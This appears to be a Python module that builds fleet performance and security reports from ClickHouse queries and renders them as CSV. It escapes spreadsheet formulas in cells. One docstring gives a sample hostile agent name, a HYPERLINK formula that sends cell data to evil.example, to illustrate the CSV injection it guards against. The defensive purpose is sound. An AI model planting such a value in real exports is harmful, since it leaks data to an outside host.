"""Fleet reports for a tenant (or every tenant) and a period: performance, security, full.

Each report is a handful of aggregate queries over the whole fleet — never a
query per agent — so it costs the same few scans with 100 agents or 100,000:

- **performance** (:func:`performance`): from ``metrics``, the fleet's figures
  (heartbeats, cpu and memory average and p95, error rate, response time p50/p95,
  tasks completed and failed, uptime) and the same per agent (worst error rate
  first, up to ``limit`` agents); and from ``agent_events``, how many agents are in
  each lifecycle state at the end of the period (the latest ``status_changed`` of
  each agent).
- **security** (:func:`security`): threats that began in the period by rule,
  category and severity; agents by the band of their latest security score
  (``report_score_bands``; an agent whose score never changed keeps the initial
  score and is not counted); quarantines asked for, begun and released; alerts
  fired and resolved; the agents with the most threats (``report_top_agents``).
- **full**: both, with the anomalies (heartbeats judged anomalous) and the
  coordinated incidents of the period.

Tasks completed and failed are the increase of each agent's counters across its
heartbeats in the period (a counter that restarts within the period counts less).

As CSV, each kind is one table with a header row (:func:`render_csv`):
performance — one row per agent (the ``agents`` of the JSON); security — one row per
rule × category × severity (``threats_by``); full — every figure of the report in
long form, one ``section,name,value`` row each.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Callable
from concurrent.futures import Future, ThreadPoolExecutor
from datetime import datetime
from typing import Literal

from clickhouse_connect.driver.client import Client
from pydantic import BaseModel, Field

from api.client_pool import ClientPool
from api.queries import as_utc, epoch_millis
from api.responses import AgentIncident
from schemas.events import FLEET

ReportKind = Literal["full", "performance", "security"]
REPORT_KINDS: tuple[str, ...] = ("full", "performance", "security")


class PerformanceFigures(BaseModel):
    """Heartbeat figures over a period (None: no heartbeat to say it)."""

    heartbeats: int
    cpu_avg: float | None = Field(description="Average cpu_usage, percent.")
    cpu_p95: float | None
    memory_avg: float | None = Field(description="Average memory_usage, percent.")
    memory_p95: float | None
    error_rate_avg: float | None = Field(description="Average error_rate, a share 0…1.")
    response_time_p50: float | None = Field(description="Median response_time_avg, ms.")
    response_time_p95: float | None
    tasks_completed: int = Field(description="Increase of completed_tasks over the period.")
    tasks_failed: int = Field(description="Increase of failed_tasks over the period.")


class AgentPerformance(PerformanceFigures):
    """One agent's figures over the period."""

    agent_id: str
    tenant_id: str
    uptime_s: float = Field(description="The latest uptime_seconds reported in the period.")
    last_heartbeat: datetime


class FleetPerformance(PerformanceFigures):
    """The fleet's figures over the period."""

    agents: int = Field(description="Agents that sent at least one heartbeat in the period.")
    uptime_avg_s: float | None = Field(description="Average of the agents' latest uptime.")


class PerformanceSection(BaseModel):
    fleet: FleetPerformance
    states: dict[str, int] = Field(
        description="Agents by lifecycle state at the end of the period (their latest "
        "status_changed); agents the dataflow never moved are not counted."
    )
    agents: list[AgentPerformance] = Field(
        description="Per agent, highest average error rate first (then by agent id), up to `limit`."
    )
    agents_truncated: bool = Field(description="More agents reported than are listed.")


class ThreatCount(BaseModel):
    rule: str
    category: str
    severity: str
    threats: int
    agents: int = Field(description="Distinct agents with such a threat.")


class AgentThreats(BaseModel):
    agent_id: str
    tenant_id: str
    threats: int
    critical: int = Field(description="Of which CRITICAL or EMERGENCY.")
    last_seen: datetime


class QuarantineCounts(BaseModel):
    requested: int = Field(description="quarantine_requested commands in the period.")
    begun: int = Field(description="Agents moved to quarantined in the period (status changes).")
    released: int = Field(description="released commands in the period.")


class AlertCounts(BaseModel):
    fired: int = Field(description="Alerts that fired in the period.")
    resolved: int = Field(description="Alerts resolved in the period.")


class SecuritySection(BaseModel):
    threats: int = Field(description="Threats that began in the period.")
    threats_by: list[ThreatCount] = Field(description="By rule, category, severity; most first.")
    score_bands: dict[str, int] = Field(
        description="Agents by the band of their latest security score at the end of the "
        "period (report_score_bands)."
    )
    quarantines: QuarantineCounts
    quarantined_now: int = Field(description="Agents quarantined at the end of the period.")
    alerts: AlertCounts
    top_agents: list[AgentThreats] = Field(description="Agents with the most threats.")


class AnomalyCounts(BaseModel):
    anomalies: int = Field(description="Heartbeats judged anomalous in the period.")
    agents: int = Field(description="Distinct agents with an anomaly.")


class IncidentSection(BaseModel):
    count: int = Field(description="Incidents active in the period.")
    latest: list[AgentIncident] = Field(description="The latest of them, up to `limit`.")


class Report(BaseModel):
    """A report of ``GET /api/v1/reports/{kind}``: the sections of its kind are filled
    (performance: ``performance``; security: ``security``; full: all four)."""

    kind: ReportKind
    tenant_id: str | None = Field(description="The tenant reported on; None: every tenant.")
    since: datetime
    until: datetime
    generated_at: datetime
    performance: PerformanceSection | None = None
    security: SecuritySection | None = None
    anomalies: AnomalyCounts | None = None
    incidents: IncidentSection | None = None


class Scope:
    """The WHERE of a report's queries: tenant and period, bound as parameters."""

    def __init__(self, database: str, tenant_id: str | None, since: datetime, until: datetime):
        self.db = database
        self.parameters: dict[str, object] = {
            "since_ms": epoch_millis(since),
            "until_ms": epoch_millis(until),
        }
        self.tenant = ""
        if tenant_id is not None:
            self.tenant = " AND tenant_id = {tenant:String}"
            self.parameters["tenant"] = tenant_id

    def period(self, column: str) -> str:
        """``column`` within the period, and the tenant's rows only."""
        return (
            f"{column} >= fromUnixTimestamp64Milli({{since_ms:Int64}}, 'UTC') AND "
            f"{column} <= fromUnixTimestamp64Milli({{until_ms:Int64}}, 'UTC'){self.tenant}"
        )

    def up_to_end(self, column: str) -> str:
        """``column`` not after the period's end, and the tenant's rows only."""
        return f"{column} <= fromUnixTimestamp64Milli({{until_ms:Int64}}, 'UTC'){self.tenant}"

    def rows(self, client: Client, query: str, **more: object) -> list[dict]:
        return list(client.query(query, parameters={**self.parameters, **more}).named_results())


_FIGURES = (
    "count() AS heartbeats, avg(cpu_usage) AS cpu_avg, quantile(0.95)(cpu_usage) AS cpu_p95, "
    "avg(memory_usage) AS memory_avg, quantile(0.95)(memory_usage) AS memory_p95, "
    "avg(error_rate) AS error_rate_avg, quantile(0.5)(response_time_avg) AS response_time_p50, "
    "quantile(0.95)(response_time_avg) AS response_time_p95"
)
_TASKS = (
    "max(completed_tasks) - min(completed_tasks) AS tasks_completed, "
    "max(failed_tasks) - min(failed_tasks) AS tasks_failed"
)


def build(
    clients: ClientPool,
    scope: Scope,
    kind: str,
    limit: int,
    bands: dict[str, float],
    top: int,
    threads: int = 1,
    **header: object,
) -> Report:
    """The report of ``kind``: each query it needs, once, up to ``threads`` at a time,
    each on a client of its own from ``clients``.

    ``header``: the report's ``tenant_id``, ``since``, ``until`` and ``generated_at``.
    """

    def on_own_client(section: Callable, *args: object) -> object:
        with clients.client() as client:
            return section(client, scope, *args)

    with ThreadPoolExecutor(max_workers=threads, thread_name_prefix="report") as pool:
        # submitted first, so it runs first: the sections wait for it only to assemble
        states = pool.submit(on_own_client, _states)
        sections: dict[str, Future] = {}
        if kind in ("performance", "full"):

            def agent_states() -> dict[str, int]:
                return states.result()[0]

            sections["performance"] = pool.submit(on_own_client, performance, limit, agent_states)
        if kind in ("security", "full"):
            sections["security"] = pool.submit(on_own_client, security, bands, top, states.result)
        if kind == "full":
            sections["anomalies"] = pool.submit(on_own_client, anomalies)
            sections["incidents"] = pool.submit(on_own_client, incidents, limit)
        return Report(kind=kind, **header, **{name: f.result() for name, f in sections.items()})


def performance(
    client: Client, scope: Scope, limit: int, states: Callable[[], dict[str, int]]
) -> PerformanceSection:
    """The performance section: three aggregate queries (and the agents' states).

    One pass per agent with light aggregates (tasks, uptime, error rate) gives the
    fleet's tasks and uptime and which agents to list; the quantiles per agent, the
    costly part, are computed for those agents only.
    """
    where = scope.period("timestamp")
    (light,) = scope.rows(
        client,
        "SELECT sum(tasks_completed) AS tasks_completed, sum(tasks_failed) AS tasks_failed, "
        "avg(uptime_s) AS uptime_avg_s, count() AS reported, "
        # the `limit` agents of highest error rate, without sorting them all
        f"arrayMap(x -> x.2, groupArraySorted({int(limit)})((-error_rate_avg, agent_id))) "
        "AS listed "
        f"FROM (SELECT agent_id, {_TASKS}, argMax(uptime_seconds, timestamp) AS uptime_s, "
        f"avg(error_rate) AS error_rate_avg FROM {scope.db}.metrics FINAL WHERE {where} "
        "GROUP BY agent_id)",
    )
    listed: list[str] = light.pop("listed")
    reported = light.pop("reported")
    agents = {}
    if listed:
        rows = scope.rows(
            client,
            f"SELECT agent_id, any(tenant_id) AS tenant, {_FIGURES}, {_TASKS}, "
            "argMax(uptime_seconds, timestamp) AS uptime_s, max(timestamp) AS last_heartbeat "
            f"FROM {scope.db}.metrics FINAL WHERE agent_id IN {{listed:Array(String)}} "
            f"AND {where} GROUP BY agent_id",
            listed=listed,
        )
        agents = {row["agent_id"]: row for row in rows}
    (fleet,) = scope.rows(
        client,
        f"SELECT {_FIGURES}, uniqExact(agent_id) AS agents FROM {scope.db}.metrics FINAL "
        f"WHERE {where}",
    )
    return PerformanceSection(
        fleet=FleetPerformance(**_numbers(fleet | light)),
        states=states(),
        agents=[
            AgentPerformance(
                **_numbers(row)
                | {"tenant_id": row["tenant"], "last_heartbeat": as_utc(row["last_heartbeat"])}
            )
            for row in (agents[agent_id] for agent_id in listed if agent_id in agents)
        ],
        agents_truncated=reported > len(listed),
    )


def _states(client: Client, scope: Scope) -> tuple[dict[str, int], QuarantineCounts]:
    """Agents by their latest lifecycle state at the period's end, and the quarantine
    commands and status changes within the period: one pass over ``agent_events``."""
    rows = scope.rows(
        client,
        "SELECT state, count() AS agents, sum(requested) AS requested, sum(begun) AS begun, "
        "sum(released) AS released FROM ("
        " SELECT agent_id, argMaxIf(JSONExtractString(payload, 'to'), timestamp, "
        "  type = 'status_changed' AND channel IN ('state', '')) AS state,"
        "  countIf(type = 'quarantine_requested' AND channel = 'control' AND in_period) "
        "   AS requested,"
        "  countIf(type = 'status_changed' AND channel IN ('state', '') AND in_period AND "
        "   JSONExtractString(payload, 'to') = 'quarantined') AS begun,"
        "  countIf(type = 'released' AND channel = 'control' AND in_period) AS released"
        " FROM (SELECT *, timestamp >= fromUnixTimestamp64Milli({since_ms:Int64}, 'UTC')"
        f"   AS in_period FROM {scope.db}.agent_events FINAL"
        f"   WHERE agent_id != '{FLEET}' AND {scope.up_to_end('timestamp')}"
        "   AND type IN ('status_changed', 'quarantine_requested', 'released'))"
        " GROUP BY agent_id"
        ") GROUP BY state ORDER BY state",
    )
    states = {row["state"]: row["agents"] for row in rows if row["state"]}
    quarantines = QuarantineCounts(
        requested=sum(row["requested"] for row in rows),
        begun=sum(row["begun"] for row in rows),
        released=sum(row["released"] for row in rows),
    )
    return states, quarantines


def security(
    client: Client,
    scope: Scope,
    bands: dict[str, float],
    top: int,
    states: Callable[[], tuple[dict[str, int], QuarantineCounts]],
) -> SecuritySection:
    """The security section: four aggregate queries (and the agents' states)."""
    threats = f"{scope.db}.threats FINAL WHERE {scope.period('first_seen')}"
    threats_by = scope.rows(
        client,
        "SELECT rule, category, severity, count() AS threats, uniqExact(agent_id) AS agents "
        f"FROM {threats} GROUP BY rule, category, severity "
        "ORDER BY threats DESC, rule, category, severity",
    )
    top_agents = scope.rows(
        client,
        "SELECT agent_id, any(tenant_id) AS tenant, count() AS threats, "
        "countIf(severity IN ('CRITICAL', 'EMERGENCY')) AS critical, max(last_seen) AS latest "
        f"FROM {threats} GROUP BY agent_id ORDER BY threats DESC, critical DESC, agent_id "
        "LIMIT {top:UInt32}",
        top=top,
    )
    ordered = sorted(bands.items(), key=lambda item: item[1], reverse=True)
    band_of = "multiIf(" + ", ".join(
        f"score >= {float(floor)!r}, {_quoted(name)}" for name, floor in ordered[:-1]
    ) + f", {_quoted(ordered[-1][0])})"  # fmt: skip
    scored = scope.rows(
        client,
        f"SELECT {band_of} AS band, count() AS agents FROM ("
        " SELECT agent_id, argMax(score, timestamp) AS score"
        f" FROM {scope.db}.security_scores WHERE {scope.up_to_end('timestamp')}"
        " GROUP BY agent_id) GROUP BY band",
    )
    (alerts,) = scope.rows(
        client,
        "SELECT uniqExactIf(fingerprint, fired_at IS NOT NULL AND "
        f"{_between('assumeNotNull(fired_at)')}) AS fired, "
        "uniqExactIf(fingerprint, resolved_at IS NOT NULL AND "
        f"{_between('assumeNotNull(resolved_at)')}) AS resolved "
        f"FROM {scope.db}.alerts WHERE {scope.period('updated_at')}",
    )
    now, quarantines = states()
    return SecuritySection(
        threats=sum(row["threats"] for row in threats_by),
        threats_by=[ThreatCount(**row) for row in threats_by],
        score_bands={name: 0 for name, _ in ordered} | {r["band"]: r["agents"] for r in scored},
        quarantines=quarantines,
        quarantined_now=now.get("quarantined", 0),
        alerts=AlertCounts(**alerts),
        top_agents=[
            AgentThreats(
                agent_id=row["agent_id"],
                tenant_id=row["tenant"],
                threats=row["threats"],
                critical=row["critical"],
                last_seen=as_utc(row["latest"]),
            )
            for row in top_agents
        ],
    )


def anomalies(client: Client, scope: Scope) -> AnomalyCounts:
    (row,) = scope.rows(
        client,
        "SELECT count() AS anomalies, uniqExact(agent_id) AS agents "
        f"FROM {scope.db}.anomalies WHERE is_anomaly AND {scope.period('timestamp')}",
    )
    return AnomalyCounts(**row)


def incidents(client: Client, scope: Scope, limit: int) -> IncidentSection:
    """Incidents whose activity overlaps the period (newest revision of each)."""
    rows = scope.rows(
        client,
        "SELECT incident_id, tenant_id, rule, category, severity, agent_ids, truncated, "
        "first_seen, last_seen, revision, count() OVER () AS total "
        f"FROM {scope.db}.incidents FINAL WHERE "
        "last_seen >= fromUnixTimestamp64Milli({since_ms:Int64}, 'UTC') AND "
        f"{scope.up_to_end('first_seen')} "
        "ORDER BY last_seen DESC, incident_id LIMIT {limit:UInt32}",
        limit=limit,
    )
    return IncidentSection(
        count=rows[0]["total"] if rows else 0,
        latest=[
            AgentIncident(
                **{k: v for k, v in row.items() if k != "total"}
                | {"first_seen": as_utc(row["first_seen"]), "last_seen": as_utc(row["last_seen"])}
            )
            for row in rows
        ],
    )


def _between(column: str) -> str:
    return (
        f"{column} >= fromUnixTimestamp64Milli({{since_ms:Int64}}, 'UTC') AND "
        f"{column} <= fromUnixTimestamp64Milli({{until_ms:Int64}}, 'UTC')"
    )


def _quoted(name: str) -> str:
    """A band's name as an SQL string literal (names come from the settings)."""
    return "'" + name.replace("\\", "\\\\").replace("'", "\\'") + "'"


def _numbers(row: dict) -> dict:
    """The row with NaN (an average of nothing) as None and counts as ints."""
    return {k: None if isinstance(v, float) and math.isnan(v) else v for k, v in row.items()}


# --- CSV ------------------------------------------------------------------------
_AGENT_COLUMNS = (
    "agent_id", "tenant_id", "heartbeats", "cpu_avg", "cpu_p95", "memory_avg", "memory_p95",
    "error_rate_avg", "response_time_p50", "response_time_p95", "tasks_completed",
    "tasks_failed", "uptime_s", "last_heartbeat",
)  # fmt: skip
_THREAT_COLUMNS = ("rule", "category", "severity", "threats", "agents")


def render_csv(report: Report) -> str:
    """The report's one CSV table (see the module's docstring), with a header row.

    >>> from datetime import UTC
    >>> t = datetime(2026, 1, 1, tzinfo=UTC)
    >>> report = Report(kind="security", tenant_id="t1", since=t, until=t, generated_at=t,
    ...     security=SecuritySection(threats=2, threats_by=[ThreatCount(rule="r",
    ...     category="SECURITY", severity="HIGH", threats=2, agents=1)], score_bands={},
    ...     quarantines=QuarantineCounts(requested=0, begun=0, released=0), quarantined_now=0,
    ...     alerts=AlertCounts(fired=0, resolved=0), top_agents=[]))
    >>> print(render_csv(report), end="")
    rule,category,severity,threats,agents
    r,SECURITY,HIGH,2,1
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    if report.kind == "performance":
        writer.writerow(_AGENT_COLUMNS)
        for agent in report.performance.agents:
            values = agent.model_dump()
            values["last_heartbeat"] = agent.last_heartbeat.isoformat()
            writer.writerow(_cell(values[c]) for c in _AGENT_COLUMNS)
    elif report.kind == "security":
        writer.writerow(_THREAT_COLUMNS)
        for row in report.security.threats_by:
            writer.writerow(_cell(getattr(row, c)) for c in _THREAT_COLUMNS)
    else:
        writer.writerow(("section", "name", "value"))
        for section, name, value in _long_form(report):
            writer.writerow((section, _cell(name), _cell(value)))
    return out.getvalue()


def _long_form(report: Report):
    """Every figure of a full report as (section, name, value)."""
    yield "report", "tenant_id", report.tenant_id or "*"
    yield "report", "since", report.since.isoformat()
    yield "report", "until", report.until.isoformat()
    perf, sec = report.performance, report.security
    for name, value in perf.fleet.model_dump().items():
        yield "performance", name, value
    for state, count in perf.states.items():
        yield "states", state, count
    yield "security", "threats", sec.threats
    for row in sec.threats_by:
        yield "threats", f"{row.rule}/{row.category}/{row.severity}", row.threats
    for band, count in sec.score_bands.items():
        yield "score_bands", band, count
    for name, value in sec.quarantines.model_dump().items():
        yield "quarantines", name, value
    yield "quarantines", "quarantined_now", sec.quarantined_now
    for name, value in sec.alerts.model_dump().items():
        yield "alerts", name, value
    for agent in sec.top_agents:
        yield "top_agents", agent.agent_id, agent.threats
    yield "anomalies", "anomalies", report.anomalies.anomalies
    yield "anomalies", "agents", report.anomalies.agents
    yield "incidents", "count", report.incidents.count


#: What a spreadsheet reads as a formula at the start of a cell (OWASP, "CSV Injection").
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cell(value: object) -> object:
    """A value as a report's CSV cell: text that a spreadsheet would run as a formula
    (an agent may call itself ``=HYPERLINK("https://evil.example/?"&B2,"open")``) gets a
    leading ``'``, which spreadsheets show as text and do not keep.

    >>> [_cell(v) for v in ("=1+1", "@SUM(A1)", "agent-1", -2.5, None, 0.1234567)]
    ["'=1+1", "'@SUM(A1)", 'agent-1', -2.5, '', 0.123457]
    """
    if isinstance(value, float):
        return round(value, 6)
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return "" if value is None else value
